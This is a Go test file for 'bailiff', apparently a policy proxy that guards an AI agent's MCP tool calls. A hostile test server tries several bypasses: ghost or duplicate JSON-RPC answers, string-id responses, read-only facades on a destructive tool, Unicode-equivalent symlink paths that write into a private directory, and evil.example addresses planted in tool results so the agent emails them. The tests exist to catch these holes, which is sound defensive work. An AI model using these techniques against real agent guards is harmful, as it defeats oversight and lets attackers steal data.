package proxy

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"bailiff/chain"
	"bailiff/engine"
)

const hostilePolicy = `version: 1
rules:
  - {id: all, tool: "*", action: allow}
tools:
  send_email:
    exfiltrating: true
    sink_params: [to]
    trusted_destinations: ["@good.example"]
`

// TestAnswerToUnforwardedCallIsDropped: in run mode a server response
// whose id bailiff does not track was relayed to the client without being
// recorded or tainting; it is dropped now.
// The client's tools/call ids are sequential and the server sees every
// forwarded one, so it answers the client's NEXT call (one bailiff is
// still deciding, here an ask waiting on the human) before bailiff does.
// The client takes that answer as the tool result; the address in it
// never taints, and a send to it is asked instead of denied by taint.
func TestAnswerToUnforwardedCallIsDropped(t *testing.T) {
	peer(t, "")
	script, _ := filepath.Abs("testdata/hostile-server.js")
	var mu sync.Mutex
	var asked []string
	s := start(t, setup{policy: hostilePolicy, server: "mail", subject: "ana", command: []string{"node", script},
		env: []string{"HOSTILE_MODE=ghost"},
		elicit: func(r *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
			mu.Lock()
			asked = append(asked, r.Params.Message)
			mu.Unlock()
			time.Sleep(time.Second) // a human reads the question
			return &mcp.ElicitResult{Action: "decline"}, nil
		}})
	if r := s.call("weather", map[string]any{}); r.IsError {
		t.Fatalf("weather: %q", text(r))
	}
	// Asked (an address nobody trusts): while the human reads, the
	// server's ghost answer for this id reaches the client.
	r := s.call("send_email", map[string]any{"to": "boss@unknown.example", "text": "hi"})
	t.Logf("the client's result for its send_email call: %q", text(r))
	if !strings.Contains(text(r), "ghost@evil.example") {
		t.Skip("the ghost answer did not win the race")
	}
	// The agent follows the text it was handed as a tool result.
	r = s.call("send_email", map[string]any{"to": "ghost@evil.example", "text": "the report"})
	if !strings.Contains(text(r), "check taint") {
		mu.Lock()
		defer mu.Unlock()
		t.Errorf("BYPASS: a send to an address the server planted in an untracked response was not denied by taint: %q (asks: %q)", text(r), asked)
	}
}

// TestClientSeesTheListingBailiffPinned: the pin digest covers
// only name, description and inputSchema, and checkList relays the whole
// tool object. A server shows bailiff "wipe" as destructive and the client
// the same name/description/schema flagged readOnlyHint (which clients use
// to skip confirmation), with a title, annotations.title, outputSchema and
// _meta of its choosing. None of it is withheld, and none of it taints.
func TestClientSeesTheListingBailiffPinned(t *testing.T) {
	peer(t, "")
	script, _ := filepath.Abs("testdata/hostile-server.js")
	s := start(t, setup{policy: hostilePolicy, server: "mail", subject: "ana", command: []string{"node", script},
		env: []string{"HOSTILE_MODE=facade"},
		elicit: func(r *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
			return &mcp.ElicitResult{Action: "decline"}, nil
		}})
	tools, err := listAll(t, s.cs)
	if err != nil {
		t.Fatal(err)
	}
	for _, tl := range tools {
		if tl.Name != "wipe" {
			continue
		}
		b, _ := json.Marshal(tl)
		if tl.Annotations != nil && tl.Annotations.ReadOnlyHint {
			t.Errorf("BYPASS: the client was shown wipe as read-only, though bailiff pinned it destructive: %s", b)
		}
		if strings.Contains(string(b), "@evil.example") {
			t.Errorf("BYPASS: the client was shown a definition of wipe bailiff never pinned: %s", b)
		}
	}
}

// TestStringIDAnswerIsDropped: bailiff tracks the client's
// requests by id type ("n:2" vs "s:2"), but TypeScript SDK clients match a
// response with Number(response.id) (sdk/dist/*/shared/protocol.js,
// Protocol._onresponse), so an answer to request 2 sent with "id":"2" is
// the answer to request 2 for them. bailiff sees an untracked response and,
// in run mode, relays it raw: the client's tools/list answer skips the pin
// check (a poisoned description reaches the client), and a tools/call
// result skips recording and taint (a send to the address in it is asked,
// not denied).
func TestStringIDAnswerIsDropped(t *testing.T) {
	peer(t, "")
	script, _ := filepath.Abs("testdata/hostile-server.js")
	pol, err := engine.Load("test policy", []byte(hostilePolicy))
	if err != nil {
		t.Fatal(err)
	}
	logPath := filepath.Join(t.TempDir(), "audit.jsonl")
	w, err := chain.Open(logPath, chain.Sync)
	if err != nil {
		t.Fatal(err)
	}
	stderr := &lockedBuffer{}
	opt := Options{Policy: pol, Log: w, Evidence: chain.OpenEvidence(chain.EvidenceDir(logPath)), Server: "mail",
		Session: "test-session", Principal: engine.Principal{Subject: "ana"}, Secret: []byte("0123456789abcdef0123456789abcdef"),
		Stderr: stderr, CallTimeout: time.Second, AskTimeout: time.Second}
	clientR, proxyW := io.Pipe()
	proxyR, clientW := io.Pipe()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	done := make(chan struct{})
	go func() {
		cmd := exec.Command("node", script)
		cmd.Env = append(os.Environ(), "HOSTILE_MODE=strid")
		_ = Run(ctx, opt, proxyR, proxyW, cmd)
		proxyW.Close()
		w.Close()
		close(done)
	}()
	defer func() { clientW.Close(); cancel(); <-done }()
	lines := make(chan string, 64)
	go func() {
		sc := bufio.NewScanner(clientR)
		sc.Buffer(nil, 1<<20)
		for sc.Scan() {
			lines <- sc.Text()
		}
		close(lines)
	}()
	send := func(s string) { fmt.Fprintln(clientW, s) }
	// answers collects what the client is sent for request id (number
	// or string, as a TS client would take either), for a while.
	answers := func(id int, wait time.Duration) []string {
		var out []string
		deadline := time.After(wait)
		for {
			select {
			case l, ok := <-lines:
				if !ok {
					return out
				}
				var m struct{ ID json.RawMessage }
				_ = json.Unmarshal([]byte(l), &m)
				if string(m.ID) == strconv.Itoa(id) || string(m.ID) == strconv.Quote(strconv.Itoa(id)) {
					out = append(out, l)
				}
			case <-deadline:
				return out
			}
		}
	}
	send(`{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"ts-like","version":"0"}}}`)
	answers(1, 2*time.Second)
	send(`{"jsonrpc":"2.0","method":"notifications/initialized"}`)
	send(`{"jsonrpc":"2.0","id":2,"method":"tools/list","params":{}}`)
	if got := answers(2, 2*time.Second); len(got) > 0 && strings.Contains(got[0], "id_rsa") {
		t.Errorf("BYPASS (pinning): the client's tools/list was answered with a definition bailiff never pinned: %s", got[0])
	}
	send(`{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"weather","arguments":{}}}`)
	got := answers(3, 2500*time.Millisecond)
	t.Logf("answers to call 3: %q", got)
	for _, a := range got {
		if strings.Contains(a, "strid@evil.example") {
			t.Errorf("BYPASS (taint): the string-id answer, never recorded, reached the client: %q", got)
		}
	}
	if len(got) != 1 || !strings.Contains(got[0], "did not answer") {
		t.Errorf("call 3: %q, want bailiff's one answer: the server never answered it", got)
	}
}

// TestUnicodeEquivalentLinkRefused: server-filesystem, when a path does
// not exist byte for byte, walks it component by component matching
// directory entries whose NFC form equals the requested component's
// (lib.js resolveUnicodeEquivalentPath) and follows the symlinks it finds.
// bailiff's resolvePath matches bytes only: a component that does not
// exist is "kept as written", so the check sees a path under public while
// the server writes through the link into private. With public/café ->
// ../private (NFC name), a write to public/cafe\u0301/x.txt (NFD), or with
// public/Keep -> ../private, to public/\u212Aeep/x.txt (KELVIN SIGN, whose
// NFC is K) lands in private.
func TestUnicodeEquivalentLinkRefused(t *testing.T) {
	server := peer(t, "@modelcontextprotocol/server-filesystem/dist/index.js")
	root := symlinkTree(t)
	pub, priv := filepath.Join(root, "public"), filepath.Join(root, "private")
	for _, l := range []string{"caf\u00e9", "Keep"} {
		if err := os.Symlink("../private", filepath.Join(pub, l)); err != nil {
			t.Fatal(err)
		}
	}
	policy := fmt.Sprintf(`version: 1
packs: [filesystem]
rules:
  - {id: write, tool: write_file, action: allow}
tools:
  write_file:
    allowed_path_prefixes: [%s]
`, pub)
	s := start(t, setup{policy: policy, server: "fs", command: []string{"node", server, root}})
	for name, p := range map[string]string{"nfd.txt": pub + "/cafe\u0301/nfd.txt", "kelvin.txt": pub + "/\u212Aeep/kelvin.txt"} {
		r := s.call("write_file", map[string]any{"path": p, "content": "pwned"})
		if _, err := os.Stat(filepath.Join(priv, name)); err == nil {
			t.Errorf("BYPASS: write_file %q was allowed (%v %q) and landed in %s", p, r.IsError, text(r), filepath.Join(priv, name))
		}
	}
}

// TestStructuredDataKeyTaints: engine/output.go's leaves skips
// every key named "data", "type", "blob" or "mimeType" at any depth, as if
// it were a content block's base64 payload. In structuredContent (and in
// every other channel's payload, which is read the same way) those are
// ordinary JSON keys — {"data": {...}} is the commonest API envelope there
// is — and a client hands structuredContent to the model. An address
// under one never taints, so a send to it is asked, not denied.
func TestStructuredDataKeyTaints(t *testing.T) {
	peer(t, "")
	script, _ := filepath.Abs("testdata/hostile-server.js")
	s := start(t, setup{policy: hostilePolicy, server: "mail", subject: "ana", command: []string{"node", script},
		env: []string{"HOSTILE_MODE=datakey"},
		elicit: func(r *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
			return &mcp.ElicitResult{Action: "decline"}, nil
		}})
	r := s.call("weather", map[string]any{})
	b, _ := json.Marshal(r.StructuredContent)
	if !strings.Contains(string(b), "data@evil.example") {
		t.Fatalf("the client did not get the structured content: %s", b)
	}
	for _, a := range []string{"data@evil.example", "type@evil.example"} {
		if r := s.call("send_email", map[string]any{"to": a, "text": "x"}); !strings.Contains(text(r), "check taint") {
			t.Errorf("BYPASS: %s, shown to the client in structuredContent, did not taint: %q", a, text(r))
		}
	}
}

// TestSecondAnswerIsDropped: a server answers the client's
// tools/list and tools/call twice under the same (numeric) id. The first
// answer is handed to a goroutine (relayList's pin check; forward's
// evidence and log fsyncs) and the id is forgotten; the second is then
// untracked and fromServerLoop relays it raw at once, so it reaches the
// client — any SDK client — before the checked one. The client is shown a
// definition bailiff never pinned and a tool result bailiff never
// recorded: a send to the address in it is asked, not denied by taint.
func TestSecondAnswerIsDropped(t *testing.T) {
	peer(t, "")
	script, _ := filepath.Abs("testdata/hostile-server.js")
	s := start(t, setup{policy: hostilePolicy, server: "mail", subject: "ana", command: []string{"node", script},
		env: []string{"HOSTILE_MODE=double"},
		elicit: func(r *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
			return &mcp.ElicitResult{Action: "decline"}, nil
		}})
	tools, err := listAll(t, s.cs)
	if err != nil {
		t.Fatal(err)
	}
	for _, tl := range tools {
		t.Logf("listed: %s %q", tl.Name, tl.Description)
		if strings.Contains(tl.Description, "id_rsa") {
			t.Errorf("BYPASS (pinning): the client was shown %s as %q, never pinned", tl.Name, tl.Description)
		}
	}
	r := s.call("weather", map[string]any{})
	t.Logf("weather as the client got it: %q", text(r))
	if !strings.Contains(text(r), "double@evil.example") {
		t.Skip("the checked answer won the race")
	}
	if r := s.call("send_email", map[string]any{"to": "double@evil.example", "text": "x"}); !strings.Contains(text(r), "check taint") {
		t.Errorf("BYPASS (taint): the address in the unrecorded duplicate answer did not taint: %q", text(r))
	}
}
